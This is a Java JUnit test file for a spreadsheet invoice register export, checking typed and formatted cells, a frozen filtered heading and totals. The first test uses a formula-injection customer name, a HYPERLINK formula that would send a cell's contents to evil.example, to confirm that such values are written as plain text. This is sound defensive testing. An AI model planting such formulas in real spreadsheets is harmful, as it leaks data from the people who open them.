package dev.ratel.jobs.documents;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ratel.core.account.Account;
import dev.ratel.core.account.PaymentMethod;
import dev.ratel.core.account.ReferenceData;
import dev.ratel.core.money.Currency;
import dev.ratel.core.tax.LineAmounts;
import dev.ratel.jobs.close.Invoice;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

class SheetsTest {
    @Test
    void shouldNeverLetACustomerNameBecomeAFormula() throws Exception {
        String hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        Account account = new Account("A-1", hostile, "+77010000000", "kense-15", PaymentMethod.CREDIT, LocalDate.of(2024, 1, 1));
        ReferenceData reference = new ReferenceData(Map.of("A-1", account), Map.of(), Map.of(), Map.of(), Map.of());
        Invoice invoice = new Invoice("KZB-2024-000001", "A-1", "2024-05", "kense-15", LocalDate.of(2024, 5, 31),
                LocalDate.of(2024, 6, 30), Currency.KZT, List.of(new Invoice.Line(1, "PACKAGE", "@SUM(1+1)", "1", "мес", 349_900_000L, 1200,
                        new LineAmounts(3_124_107, 374_893, 3_499_000))), Set.of());
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        InvoiceRegister.write("за 2024-05", List.of(invoice), reference, out);

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            var customer = workbook.getSheetAt(0).getRow(3).getCell(5);
            assertThat(customer.getCellType()).isEqualTo(CellType.STRING);
            assertThat(customer.getStringCellValue()).isEqualTo(hostile);
            assertThat(customer.getCellStyle().getQuotePrefixed()).isTrue();
            var taxId = workbook.getSheetAt(0).getRow(3).getCell(6);
            assertThat(taxId.getCellType()).isEqualTo(CellType.STRING);
            assertThat(taxId.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(workbook.getSheetAt(0).getRow(3).getCell(1).getCellStyle().getQuotePrefixed()).isFalse();
            assertThat(workbook.getSheetAt(0).getRow(3).getCell(9).getNumericCellValue()).isEqualTo(34990.00);
        }
        assertThat(Sheets.looksLikeFormula("-1")).isTrue();
        assertThat(Sheets.looksLikeFormula("Абонентская плата")).isFalse();
    }

    /**
     * Issue #21: numbers and dates are numbers and dates with formats, text is text, no cell is a formula, table cells
     * are ruled, the heading is frozen and filtered, and the register's totals are the sums of its rows.
     */
    @Test
    void shouldWriteTypedRuledCellsWithAFrozenFilteredHeadingAndTotalsThatSum() throws Exception {
        Account a = new Account("A1", "ТОО «Один»", "971240001315", "kense-15", PaymentMethod.CREDIT, LocalDate.of(2024, 1, 1));
        Account b = new Account("A2", "ТОО «Два»", "971240001315", "kense-15", PaymentMethod.CREDIT, LocalDate.of(2024, 1, 1));
        ReferenceData reference = new ReferenceData(Map.of("A1", a, "A2", b), Map.of(), Map.of(), Map.of(), Map.of());
        // 34 990,00 and 38 026,00 with 3 748,93 and 4 074,22 of VAT: the totals are 73 016,00 and 7 823,15
        List<Invoice> invoices = List.of(
                new Invoice("KZB-2024-000001", "A1", "2024-05", "kense-15", LocalDate.of(2024, 5, 31), LocalDate.of(2024, 6, 30), Currency.KZT,
                        List.of(new Invoice.Line(1, "PACKAGE", "Пакет", "1", "мес", 349_900_000L, 1200, new LineAmounts(3_124_107, 374_893, 3_499_000))), Set.of()),
                new Invoice("KZB-2024-000002", "A2", "2024-05", "kense-15", LocalDate.of(2024, 5, 31), LocalDate.of(2024, 6, 30), Currency.KZT,
                        List.of(new Invoice.Line(1, "PACKAGE", "Пакет", "1", "мес", 380_260_000L, 1200, new LineAmounts(3_395_178, 407_422, 3_802_600))), Set.of()));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        InvoiceRegister.write("за 2024-05", invoices, reference, out);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            var sheet = workbook.getSheetAt(0);
            var date = sheet.getRow(3).getCell(2);
            assertThat(date.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(date.getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2024, 5, 31));
            assertThat(date.getCellStyle().getDataFormatString()).isEqualTo("dd.mm.yyyy");
            assertThat(sheet.getRow(3).getCell(9).getCellStyle().getDataFormatString()).isEqualTo("#,##0.00");
            assertThat(sheet.getRow(3).getCell(9).getCellStyle().getBorderBottom()).isEqualTo(org.apache.poi.ss.usermodel.BorderStyle.THIN);
            assertThat(sheet.getRow(2).getCell(0).getCellStyle().getFillPattern()).isEqualTo(org.apache.poi.ss.usermodel.FillPatternType.SOLID_FOREGROUND);
            assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
            assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 3);
            assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A3:K5");
            // the totals row after a blank one: the sums of the rows, written as values, never a formula
            var total = sheet.getRow(6);
            assertThat(total.getCell(6).getStringCellValue()).isEqualTo("Итого, KZT");
            assertThat(total.getCell(9).getNumericCellValue()).isEqualTo(73_016.00);
            assertThat(total.getCell(8).getNumericCellValue()).isEqualTo(7_823.15);
            for (var row : sheet) {
                for (var cell : row) {
                    assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                }
            }
        }
    }
}
